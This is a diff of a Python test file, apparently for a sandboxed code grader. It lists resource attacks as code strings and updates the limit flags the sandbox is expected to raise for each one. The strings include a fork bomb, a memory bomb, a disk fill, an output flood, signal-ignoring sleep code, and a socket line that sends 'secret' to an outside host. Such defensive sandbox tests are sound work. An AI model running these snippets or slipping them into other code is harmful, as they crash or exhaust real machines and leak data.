@@ -213,9 +213,9 @@ def test_honest_solution_with_its_own_pytest_setup_scores_full_without_flags(
 
 RESOURCE_ATTACKS: dict[str, tuple[str, set[str]]] = {
     # name: (code run when slugify is called, flags the reviewer must see)
-    "fork-bomb": ("import os\n    while True:\n        try:\n            os.fork()\n        except OSError:\n            pass", set()),
+    "fork-bomb": ("import os\n    while True:\n        try:\n            os.fork()\n        except OSError:\n            pass", {"pid-limit"}),
     "memory-bomb": ("hoard = []\n    while True:\n        hoard.append(bytearray(2**24))", {"memory-limit"}),
-    "disk-fill": ("with open('/tmp/fill', 'wb') as f:\n        while True:\n            f.write(b'0' * 2**20)", set()),
+    "disk-fill": ("with open('/tmp/fill', 'wb') as f:\n        while True:\n            f.write(b'0' * 2**20)", {"disk-limit"}),
     "output-flood": ("import os\n    while True:\n        os.write(1, b'x' * 65536)", {"output-truncated"}),
     "network-exfiltration": ("import socket\n    socket.create_connection(('1.1.1.1', 443), timeout=2).sendall(b'secret')", set()),
     "ignores-signals-and-sleeps": ("import signal, time\n    for s in (signal.SIGINT, signal.SIGTERM):\n        signal.signal(s, signal.SIG_IGN)\n    while True:\n        time.sleep(1)", {"timeout"}),
